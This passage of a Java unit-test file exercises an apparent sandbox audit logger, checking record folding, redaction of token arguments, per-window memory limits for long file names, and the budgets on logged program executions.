                sequence.add(bytes(AuditFrame.FILE, f));
            } else if (pick < 97) {
                int program = random.nextInt(pick < 75 ? 1_500 : 6);
                f.addAll(List.of(AuditFrame.PPID, 1, AuditFrame.UID, 1000, AuditFrame.CWD, "/home/u/proj"));
                f.addAll(List.of(AuditFrame.PATH, "/usr/bin/p" + program, AuditFrame.ARG, "p" + program));
                if (program == 1) {
                    f.addAll(List.of(AuditFrame.ARG, "--token=" + token));
                }
                if (program == 2) {
                    f.addAll(List.of(AuditFrame.MISSING, "1"));
                }
                if (program == 3) {
                    f.addAll(List.of(AuditFrame.REFUSED, "1"));
                }
                sequence.add(bytes(AuditFrame.EXEC, f));
            } else {
                sequence.add(bytes(
                        AuditFrame.UNRECORDED,
                        List.of(AuditFrame.COUNT, 1 + random.nextInt(4), AuditFrame.TIME, time)));
            }
        }
        List<AuditRecord> parsed = new ArrayList<>();
        List<AuditRecord> counted = new ArrayList<>();
        PathView view = new PathView(Path.of("/home/u/proj"), Path.of("/home/u"));
        JailActivity everyFrameParsed = new JailActivity("s1", view, Redactor.builtIn(), parsed::add);
        JailActivity repeatsCounted = new JailActivity("s1", view, Redactor.builtIn(), counted::add);
        for (int i = 0; i < sequence.size(); i++) {
            ByteBuf b = sequence.get(i);
            try {
                everyFrameParsed.frame(AuditFrame.parse(b.duplicate()));
                repeatsCounted.frame(b);
            } finally {
                b.release();
            }
            if (i % 9_000 == 8_999) {
                everyFrameParsed.tick();
                repeatsCounted.tick();
            }
        }
        everyFrameParsed.tick();
        repeatsCounted.tick();

        assertTrue(parsed.size() > 2_000, () -> parsed.size() + " records: the sequence must reach the folds");
        assertTrue(parsed.stream().anyMatch(r -> r.file() != null && r.file().count() > 1), "repeats were counted");
        for (int i = 0; i < Math.min(parsed.size(), counted.size()); i++) {
            // The count of refused calls past their bound is written at the window's end with the time of that end.
            String ts = parsed.get(i).kind().equals(AuditRecord.KIND_AUDIT_GAP) ? "\"ts\":\"[^\"]*\"" : "^$";
            assertEquals(
                    AuditJson.toLine(parsed.get(i)).replaceFirst(ts, ""),
                    AuditJson.toLine(counted.get(i)).replaceFirst(ts, ""),
                    "record " + i);
        }
        assertEquals(parsed.size(), counted.size(), "records");
        assertEquals(everyFrameParsed.programs(), repeatsCounted.programs());
        assertEquals(everyFrameParsed.fileEvents(), repeatsCounted.fileEvents());
        assertEquals(everyFrameParsed.filesChanged(), repeatsCounted.filesChanged());
        assertEquals(everyFrameParsed.redacted(), repeatsCounted.redacted());
        assertTrue(everyFrameParsed.redacted() > 1_000, "secrets were found in repeats");
        assertEquals(everyFrameParsed.unrecorded(), repeatsCounted.unrecorded());
    }

    @Test
    void aLoopOfDistinctLongNamesStaysWithinTheWindowsMemoryAndItsCountsAddUp() {
        // 40,000 writes of distinct 4,000-character names in one window: held whole, their keys alone would be 300 MB.
        String dir = "d/" + "x".repeat(4_000) + "/";
        int events = 40_000;
        for (int i = 0; i < events; i++) {
            ByteBuf b = bytes(
                    AuditFrame.FILE,
                    List.of(
                            AuditFrame.PID,
                            2,
                            AuditFrame.TIME,
                            1_700_000_000_000L,
                            AuditFrame.OP,
                            "write",
                            AuditFrame.PATH,
                            dir + i,
                            AuditFrame.BASE,
                            "/home/u/proj",
                            AuditFrame.FLAGS,
                            0101));
            try {
                activity.frame(b);
            } finally {
                b.release();
            }
            assertTrue(activity.heldBytes() <= JailActivity.HELD_BYTES_PER_WINDOW, () -> activity.heldBytes() + "");
        }
        // The last name again: its key was past the budget, so it counts as one more path of the directory's fold.
        activity.frame(write(2, dir + (events - 1)));
        activity.tick();

        assertEquals(events + 1, fileCount());
        assertTrue(written.size() <= JailActivity.PATHS_PER_DIRECTORY + 1, () -> written.size() + " records");
        AuditRecord fold = written.get(written.size() - 1);
        assertEquals(events - JailActivity.PATHS_PER_DIRECTORY + 1, fold.file().count(), fold::toString);
        assertEquals(events - JailActivity.PATHS_PER_DIRECTORY + 1, fold.file().paths(), fold::toString);
        assertEquals(events, activity.filesChanged());
        assertEquals(0, activity.heldBytes(), "a new window holds nothing");
    }

    @Test
    void pastItsFoldsOfProgramsAWindowFoldsEveryFurtherProgramIntoOneRecordPerMarks() {
        // Misses have budgets of their own: 2,500 failing execs fold, and the real start after them keeps its record.
        int starts = JailActivity.EXEC_RECORDS_PER_WINDOW + JailActivity.EXEC_FOLDS_PER_WINDOW + 500;
        for (int i = 0; i < starts; i++) {
            activity.frame(exec(3, "/p/" + i, "p" + i, AuditFrame.MISSING));
        }
        activity.frame(exec(3, "/usr/bin/curl", "curl", "https://example.test/"));
        activity.tick();

        List<AuditRecord> anywhere = written.stream()
                .filter(r -> r.exec() != null && r.exec().path().equals("*"))
                .toList();
        assertEquals(1, anywhere.size(), anywhere::toString);
        AuditRecord missed = anywhere.get(0);
        assertTrue(missed.exec().missing(), missed::toString);
        assertEquals(500, missed.exec().count(), missed::toString);
        assertEquals(500, missed.exec().commands(), missed::toString);
        assertTrue(missed.exec().argv().isEmpty(), missed::toString);
        AuditRecord ran = written.stream()
                .filter(r -> r.exec() != null && r.exec().path().equals("/usr/bin/curl"))
                .findFirst()
                .orElseThrow();
        assertEquals(List.of("curl", "https://example.test/"), ran.exec().argv(), ran::toString);
        assertEquals(1, ran.exec().count(), ran::toString);
        assertFalse(ran.exec().missing(), ran::toString);
        assertEquals(1, activity.programs());
        assertEquals(
                starts + 1L,
                written.stream()
                        .filter(r -> r.exec() != null)
                        .mapToLong(r -> r.exec().count())
                        .sum());
        assertTrue(written.size() <= starts - 500 + 2, () -> written.size() + " records");
    }
}
